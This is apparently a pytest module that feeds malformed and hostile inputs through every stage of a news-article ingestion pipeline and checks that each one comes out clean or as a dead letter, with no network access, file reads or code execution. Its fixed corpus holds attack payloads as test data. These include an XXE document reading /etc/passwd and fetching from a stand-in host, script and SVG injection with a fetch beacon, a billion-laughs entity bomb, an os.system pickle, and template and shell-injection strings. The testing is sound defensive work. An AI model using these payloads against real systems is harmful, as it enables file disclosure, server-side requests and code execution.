"""Bad input at the pure level: every stage, a fixed corpus of nasties plus property-based inputs.

Each message goes through the stages as the pipeline runs them -- the parse DoFn, the boilerplate strip,
near-duplicate fingerprinting, the NLP DoFn, the Avro encoder -- and must come out clean or as a dead letter
with a reason. Nothing may crash, hang (a per-case alarm), open a network connection (any non-loopback
connect or name lookup), open a file outside the interpreter, the repository and the temp dir, or run code
(subprocess, os.system/exec, unpickling); a Python audit hook watches, armed only around the work.

Fixtures are generated here (nothing large is committed). Counts of cases and outcomes are printed.
"""

from __future__ import annotations

import json
import random
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.avro import ENRICHED_ARTICLE
from pipeline.boilerplate import PublisherMemory, default_rules
from pipeline.boilerplate.html import html_to_text
from pipeline.boilerplate.strip import strip
from pipeline.neardup import NearDupConfig, fingerprint_article
from pipeline.parse import ParseLimits
from pipeline.records import DeadLetter, KafkaRecord
from pipeline.stages.boilerplate import strip_article
from pipeline.stages.common import stage_dead_letter
from pipeline.stages.parse import _ParseFn
from pipeline.stages.sink import _EncodeFn

from ..guards import WATCH


# ------------------------------------------------------------------------------------------ the watchdog


# ------------------------------------------------------------------------------------------ the chain


class Chain:
    """The stages as the pipeline runs them, per article, without Beam's runner."""

    def __init__(self, nlp_fn=None):
        self.parse = _ParseFn(ParseLimits(), None, None)
        self.parse.setup()
        self.rules = default_rules()
        self.nd_config = NearDupConfig()
        self.nlp_fn = nlp_fn
        self.encode = _EncodeFn(ENRICHED_ARTICLE, "out", None, None, "article_id")
        self.encode.setup()

    def run(self, value: bytes, offset: int = 0):
        """-> ("clean", OutboundMessage) or ("dead", DeadLetter)."""
        rec = KafkaRecord("raw", 0, offset, 1_795_000_000_000, None, value, [], offset, 0)
        art = _single(self.parse.process(rec))
        if isinstance(art, DeadLetter):
            return "dead", art
        try:
            art, _n, _all = strip_article(art, PublisherMemory(), self.rules)
        except Exception as exc:  # noqa: BLE001 - what the stage's DoFn does
            return "dead", stage_dead_letter(art, "boilerplate", exc)
        try:
            fingerprint_article(art, self.nd_config)
        except Exception as exc:  # noqa: BLE001
            return "dead", stage_dead_letter(art, "near_dedup", exc)
        if self.nlp_fn is not None:
            art = _single(self.nlp_fn.process([art]))
            if isinstance(art, DeadLetter):
                return "dead", art
        out = _single(self.encode.process(art))
        return ("dead", out) if isinstance(out, DeadLetter) else ("clean", out)


def _single(results):
    results = list(results)
    assert len(results) == 1, results
    r = results[0]
    return r.value if hasattr(r, "tag") else r  # TaggedOutput -> its value


@pytest.fixture(autouse=True)
def _fresh_watch():
    """Each test judges only the events of its own armed windows."""
    WATCH.events.clear()


@pytest.fixture(scope="module")
def nlp_fn():
    from pipeline.errors import ConfigError
    from pipeline.stages.nlp import _ExtractFactsFn

    fn = _ExtractFactsFn(None, 16)
    try:
        fn.setup()
    except ConfigError as exc:
        pytest.skip(f"no spaCy model: {exc}")
    return fn


# ------------------------------------------------------------------------------------------ the corpus


def _art(**fields) -> bytes:
    base = {"id": "n1", "publisher": "Nasty Wire", "title": "A title", "published_at": "2026-11-27T10:00:00Z"}
    base.update(fields)
    return json.dumps(base).encode()


_XXE_HTML = """<?xml version="1.0"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://198.51.100.7/evil.dtd">
  <!ENTITY % param SYSTEM "http://198.51.100.7/param.dtd"> %param;
]>
<html xmlns:xi="http://www.w3.org/2001/XInclude"><head>
<link rel="stylesheet" href="http://198.51.100.7/s.css"><script src="http://198.51.100.7/x.js"></script>
<script>document.write('SCRIPT-RAN'); fetch('http://198.51.100.7/beacon')</script>
<style>@import url(http://198.51.100.7/i.css);</style><base href="http://198.51.100.7/"></head>
<body><article><h1>Harbour reopens</h1>
<p>The harbour reopened on Monday after repairs, officials said. &xxe; &remote;</p>
<p>Ships queued outside the port for most of the morning.</p>
<xi:include href="file:///etc/passwd" parse="text"/>
<img src="http://198.51.100.7/pixel.gif" onerror="alert('ONERROR-RAN')">
<iframe src="file:///etc/passwd"></iframe><object data="http://198.51.100.7/o.swf"></object>
<svg><image href="file:///etc/passwd"/><script>alert('SVG-RAN')</script></svg>
<p>Trade groups welcomed the news, saying the closure had cost millions.</p>
</article></body></html>"""


def nasty_corpus() -> list[tuple[str, bytes]]:
    rnd = random.Random(20261128)
    deep = 100_000
    good = {"id": "u16", "title": "Encoded", "body": "A story sent as UTF-16.\nIt has two paragraphs."}
    appeal = ("Please support our journalism. Donate today: every contribution, big or small, keeps our "
              "reporting free for everyone.\nBecome a member now and help us keep our journalism independent.")
    return [
        ("random bytes", rnd.randbytes(4096)),
        ("random bytes, Avro single-object magic", b"\xc3\x01" + rnd.randbytes(600)),
        ("random bytes, Confluent magic", b"\x00" + rnd.randbytes(600)),
        ("invalid UTF-8", b'{"id": "u8", "body": "caf\xe9 cr\xc3\x28me"}'),
        ("UTF-16 with BOM", json.dumps(good).encode("utf-16")),
        ("UTF-32", json.dumps(good).encode("utf-32")),
        ("NUL bytes raw", b'{"id": "nul", "body": "a\x00b"}'),
        ("NUL characters escaped", _art(body="text\\u0000with NULs".replace("\\u0000", "\u0000"))),
        ("lone surrogate", b'{"id": "sur", "body": "broken \\ud800 text here"}'),
        ("JSON array", b'["id", "body"]'),
        ("JSON number", b"42"),
        ("JSON null", b"null"),
        ("JSON string", b'"just a string"'),
        ("body not a string", _art(body=["a", "list"])),
        ("id an object", _art(id={"$ne": None}, body="Text.")),
        ("NaN fields", b'{"id": NaN, "body": "x"}'),
        ("deeply nested array", b"[" * deep + b"]" * deep),
        ("deeply nested object field", b'{"body": "x", "meta": ' + b'{"a": ' * deep + b"1" + b"}" * deep + b"}"),
        ("20 MB body", _art(body="word " * (4 * 1024 * 1024))),
        ("2 M-character single line", _art(body="x" * 2_000_000)),
        ("HTML with scripts and external entities", _art(body=None, html=_XXE_HTML)),
        ("HTML in body with entities", _art(body=_XXE_HTML.replace('<?xml version="1.0"?>\n', ""))),
        ("billion laughs", _art(html='<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
                                     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><html><body><p>&lol3;</p>'
                                     '<p>A real paragraph of text.</p></body></html>')),
        ("empty message", b""),
        ("empty body", _art(body="")),
        ("whitespace body", _art(body=" \n\t \n")),
        ("body only an appeal", _art(body=appeal, publisher="Some Outlet")),
        ("python pickle", b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94."),
        ("template/eval bait", _art(body="{{7*7}} ${7*7} __import__('os').system('id') `id` $(id)\nSecond.")),
        ("control and bidi characters", _art(body="\u202eevil\u202c \x1b[31mred\x1b[0m \ufeff\ufffe\nline")),
        ("published_at garbage", _art(body="Text.\nMore.", published_at="9999-99-99T99:99")),
        ("huge published_at year", _art(body="Text.\nMore.", published_at="+275760-09-13T00:00:00Z")),
    ]


def _warm_up(chain) -> None:
    """Run benign inputs first, so lazy imports (codecs, trafilatura...) happen before the watchdog is armed."""
    good = {"id": "w", "body": "Warm-up article.\nIt loads what the stages load lazily."}
    for enc in ("utf-8", "utf-16", "utf-32"):
        chain.run(json.dumps(good).encode(enc))
    chain.run(_art(html="<html><body><p>Warm-up page with a paragraph.</p><p>And another.</p></body></html>"))


def _outcome(kind, rec) -> str:
    return "clean" if kind == "clean" else f"dead:{rec['stage']}:{rec['error_type']}"


def _check(kind, rec, name):
    if kind == "dead":
        assert rec["reason"] and len(rec["reason"]) > 10, (name, rec)
        assert rec["stage"] and rec["error_type"], (name, rec)
    else:
        assert rec.value[:2] == b"\xc3\x01" and rec.key, name


# ------------------------------------------------------------------------------------------ tests

#: what each fixed case must come to ("clean", or the dead-letter stage:error_type prefix)
_EXPECTED = {
    "random bytes": "dead:parse:",
    "random bytes, Avro single-object magic": "dead:parse:",
    "random bytes, Confluent magic": "dead:parse:NeedsSchemaRegistry",
    "invalid UTF-8": "dead:parse:InvalidEncoding",
    "UTF-16 with BOM": "clean",
    "UTF-32": "clean",
    "NUL bytes raw": "dead:parse:InvalidJson",
    "NUL characters escaped": "dead:parse:BinaryBody",
    "lone surrogate": "dead:parse:InvalidText",
    "JSON array": "dead:parse:WrongShape",
    "JSON number": "dead:parse:WrongShape",
    "JSON null": "dead:parse:WrongShape",
    "JSON string": "dead:parse:WrongShape",
    "body not a string": "dead:parse:WrongFieldType",
    "id an object": "dead:parse:WrongFieldType",
    "NaN fields": "dead:parse:WrongFieldType",
    "deeply nested array": "dead:parse:InvalidJson",
    "deeply nested object field": "dead:parse:InvalidJson",
    "20 MB body": "dead:parse:MessageTooLarge",
    "2 M-character single line": "dead:parse:BodyTooLarge",
    "HTML with scripts and external entities": "clean",
    "HTML in body with entities": "clean",
    "empty message": "dead:parse:EmptyMessage",
    "empty body": "dead:parse:MissingBody",
    "whitespace body": "dead:parse:MissingBody",
    "python pickle": "dead:parse:",
    "template/eval bait": "clean",
}


def test_fixed_corpus_of_nasties_through_every_stage(nlp_fn):
    chain = Chain(nlp_fn)
    _warm_up(chain)
    outcomes = Counter()
    results = {}
    for i, (name, value) in enumerate(nasty_corpus()):
        with WATCH.armed_for(60):
            kind, rec = chain.run(value, offset=i)
        _check(kind, rec, name)
        results[name] = (kind, rec)
        outcomes[_outcome(kind, rec)] += 1
    print(f"\nbad input, fixed corpus: {len(results)} cases through parse, boilerplate, near-dup, nlp, encode")
    for name, (kind, rec) in results.items():
        print(f"  {name:45s} -> {_outcome(kind, rec)}")
    print("  outcomes: " + ", ".join(f"{k}={v}" for k, v in sorted(outcomes.items())))
    assert not WATCH.events, WATCH.events
    for name, want in _EXPECTED.items():
        assert _outcome(*results[name]).startswith(want), (name, _outcome(*results[name]))
    for name in ("HTML with scripts and external entities", "HTML in body with entities"):
        body = _decoded_body(results[name][1])
        assert "Harbour reopens" in body or "harbour reopened" in body
        for leaked in ("root:", "/bin/", "SCRIPT-RAN", "ONERROR-RAN", "SVG-RAN", "198.51.100.7", "evil.dtd"):
            assert leaked not in body, (name, leaked, body)
    laughs = results["billion laughs"]
    if laughs[0] == "clean":
        assert "lollollol" not in _decoded_body(laughs[1])  # entities are never expanded


def _decoded_body(msg) -> str:
    from pipeline.avro import SingleObjectDecoder

    return SingleObjectDecoder(ENRICHED_ARTICLE)(msg.value)["body"]


def test_html_to_text_resolves_nothing_and_fetches_nothing():
    html_to_text("<p>warm-up</p>")
    with WATCH.armed_for(30):
        text = html_to_text(_XXE_HTML)
    assert "harbour reopened" in text.lower() and "root:" not in text and "SCRIPT-RAN" not in text
    assert not WATCH.events, WATCH.events


@pytest.mark.parametrize("body", ["x" * 2_000_000, ("word " * 400_000).strip(), "\n" * 200_000,
                                  "é\u0301" * 300_000, "\ufeff" * 100_000])
def test_strip_and_fingerprint_take_huge_texts_in_bounded_time(body):
    """Past the parse limit, but a stage must not hang on it either (linear work, alarm at 30 s)."""
    with WATCH.armed_for(30):
        res = strip(body, "Wire", memory=PublisherMemory(), rules=default_rules())
        fingerprint_article({"article_id": "big", "body": res.body, "title": None, "published_at": 1,
                             "origin": {"timestamp": 1}, "ingested_at": 1}, NearDupConfig())
    assert not WATCH.events


_json_leaf = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True),
                       st.text(max_size=50))
_json = st.recursive(_json_leaf, lambda kids: st.one_of(st.lists(kids, max_size=4),
                                                        st.dictionaries(st.text(max_size=8), kids, max_size=4)),
                     max_leaves=20)
_field = st.one_of(st.none(), st.text(max_size=300), _json)
_articles = st.fixed_dictionaries({}, optional={k: _field for k in (
    "id", "publisher", "url", "title", "published_at", "language", "body", "html")})

_SEEN = Counter()


@pytest.fixture(scope="module", autouse=True)
def _print_property_outcomes():
    """Prints, after this module's tests, what the property tests tried and how it came out."""
    yield
    if _SEEN:
        print(f"\nbad input, property-based: {sum(_SEEN.values())} cases -> "
              + ", ".join(f"{k}={v}" for k, v in sorted(_SEEN.items())))


def _try(chain, value):
    with WATCH.armed_for(20):
        kind, rec = chain.run(value)
    _check(kind, rec, value[:80])
    _SEEN[_outcome(kind, rec).split(":")[0] + ":" + (rec["stage"] if kind == "dead" else "")] += 1
    assert not WATCH.events, (value[:200], WATCH.events)


_CHAIN = None


def _chain():
    global _CHAIN
    if _CHAIN is None:
        _CHAIN = Chain(None)
        _warm_up(_CHAIN)
    return _CHAIN


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.binary(max_size=2000))
def test_property_any_bytes_are_clean_or_dead_lettered(value):
    _try(_chain(), value)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(_articles, st.sampled_from(["utf-8", "utf-16", "utf-32"]))
def test_property_any_json_object_is_clean_or_dead_lettered(obj, encoding):
    _try(_chain(), json.dumps(obj).encode(encoding))


_well_shaped = st.fixed_dictionaries(
    {"body": st.text(min_size=1, max_size=3000)},
    optional={"id": st.text(max_size=40), "title": st.text(max_size=200), "publisher": st.text(max_size=40),
              "published_at": st.one_of(st.text(max_size=30), st.datetimes().map(lambda d: d.isoformat())),
              "html": st.text(max_size=500), "url": st.text(max_size=80)})


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(_well_shaped)
def test_property_any_well_shaped_article_is_clean_or_dead_lettered(obj):
    _try(_chain(), json.dumps(obj).encode())


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=3000), st.one_of(st.none(), st.text(max_size=40)))
def test_property_any_text_body_passes_the_text_stages(body, publisher):
    """strip, html_to_text and fingerprinting are total on text: they never raise."""
    with WATCH.armed_for(20):
        res = strip(body, publisher, memory=PublisherMemory(), rules=default_rules())
        html_to_text(body)
        fingerprint_article({"article_id": "p", "body": res.body, "title": publisher, "published_at": 1,
                             "origin": {"timestamp": 1}, "ingested_at": 1}, NearDupConfig())
    assert not WATCH.events


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(min_size=1, max_size=1500).filter(lambda s: s.strip() and "\x00" not in s))
def test_property_any_text_through_nlp_is_clean_or_dead_lettered(nlp_fn, body):
    chain = Chain(nlp_fn)
    _try(chain, json.dumps({"id": "h", "body": body}).encode())
